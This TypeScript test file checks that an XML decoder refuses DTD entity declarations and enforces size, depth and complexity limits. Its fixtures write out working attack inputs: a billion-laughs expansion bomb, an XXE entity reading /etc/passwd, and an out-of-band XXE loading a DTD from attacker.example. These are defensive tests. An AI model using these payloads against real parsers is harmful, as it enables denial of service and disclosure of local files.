import { describe, expect, it } from "vitest";
import { DecodeError } from "../errors.js";
import { decodeXml, decodeXmlDocument, decodeXmlFragment } from "./decode-xml.js";

function errorOf(run: () => unknown): { code: string; offset: number } {
  try {
    run();
  } catch (e) {
    if (e instanceof DecodeError) return { code: e.code, offset: e.offset };
    throw e;
  }
  throw new Error("expected a DecodeError");
}

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

describe("the DTD policy refuses entity declarations", () => {
  const refused: [string, string, number][] = [
    ["a billion-laughs document", billionLaughs, billionLaughs.indexOf("<!ENTITY")],
    [
      "an external entity (XXE) reading a local file",
      '<!DOCTYPE SyncML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><SyncML>&xxe;</SyncML>',
      18,
    ],
    [
      "an external parameter entity (out-of-band XXE)",
      '<!DOCTYPE a [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]><a/>',
      13,
    ],
    ["a parameter entity reference in the internal subset", "<!DOCTYPE a [%p;]><a/>", 13],
    ["a parameter entity reference inside a declaration", "<!DOCTYPE a [<!ELEMENT a %p;>]><a/>", 25],
    [
      "an entity declaration after harmless declarations",
      "<!DOCTYPE a [<!ELEMENT a ANY><!--x--><!ENTITY e 'x'>]><a/>",
      37,
    ],
  ];
  for (const [name, doc, offset] of refused) {
    it(`refuses ${name} with XML_DTD_REFUSED`, () => {
      expect(errorOf(() => decodeXml(doc))).toEqual({ code: "XML_DTD_REFUSED", offset });
      expect(errorOf(() => decodeXml(doc, { lenient: true }))).toEqual({ code: "XML_DTD_REFUSED", offset });
      expect(errorOf(() => decodeXmlFragment(doc))).toEqual({ code: "XML_DTD_REFUSED", offset });
    });
  }

  it("refuses an entity reference that no DTD could define", () => {
    expect(errorOf(() => decodeXml("<SyncML>&xxe;</SyncML>"))).toEqual({
      code: "XML_UNDEFINED_ENTITY",
      offset: 8,
    });
  });

  it("keeps an undefined entity literally in lenient mode instead of expanding anything", () => {
    expect(decodeXml("<a>&xxe;</a>", { lenient: true }).children).toEqual(["&xxe;"]);
  });

  it("accepts a DOCTYPE with an external id without fetching it", () => {
    const doc = decodeXmlDocument('<!DOCTYPE a SYSTEM "file:///etc/passwd"><a>x</a>');
    expect(doc.doctype).toEqual({ name: "a", systemId: "file:///etc/passwd" });
    expect(doc.root.children).toEqual(["x"]);
  });

  it("does not apply ATTLIST defaults from the internal subset", () => {
    const doc = '<!DOCTYPE a [<!ATTLIST a xmlns CDATA "urn:injected" x CDATA "1">]><a/>';
    expect(decodeXml(doc)).toEqual({ name: "a", ns: "", children: [], offset: doc.indexOf("<a/>") });
  });

  it("refuses an unterminated internal subset as truncated", () => {
    const doc = "<!DOCTYPE a [<!ELEMENT a ANY>";
    expect(errorOf(() => decodeXml(doc))).toEqual({ code: "DECODE_TRUNCATED", offset: doc.length });
  });
});

describe("limits bound the work and memory of a decode", () => {
  it("refuses input over maxBytes before looking at it", () => {
    const huge = new Uint8Array(2 * 1024 * 1024); // all NUL: parsing would fail at byte 0
    expect(errorOf(() => decodeXml(huge))).toEqual({ code: "DECODE_LIMIT", offset: 1024 * 1024 });
  });

  it("refuses a long string before encoding it", () => {
    const huge = "\u0000".repeat(1024 * 1024 + 1);
    expect(errorOf(() => decodeXml(huge))).toEqual({ code: "DECODE_LIMIT", offset: 1024 * 1024 });
  });

  it("refuses deep nesting in a fragment at the first element over the limit", () => {
    expect(errorOf(() => decodeXmlFragment("<a/><a><a><a/></a></a>", { limits: { maxDepth: 2 } }))).toEqual({
      code: "DECODE_LIMIT",
      offset: 10,
    });
  });

  it("resolves prefixes among many declarations without walking them all", () => {
    const declarations = Array.from({ length: 20_000 }, (_, k) => ` xmlns:p${k}="u${k}"`).join("");
    const children = "<p0:a/>".repeat(20_000);
    const root = decodeXml(`<r${declarations}>${children}</r>`);
    expect(root.children.length).toBe(20_000);
    expect(root.children[19_999]).toMatchObject({ name: "a", ns: "u0" });
  });

  it("checks many attributes on one element for duplicates in linear time", () => {
    const attrs = Array.from({ length: 20_000 }, (_, k) => ` a${k}="${k}"`).join("");
    expect(decodeXml(`<e${attrs}/>`).attributes?.length).toBe(20_000);
    expect(errorOf(() => decodeXml(`<e${attrs} a7="x"/>`)).code).toBe("XML_MALFORMED");
  });
});
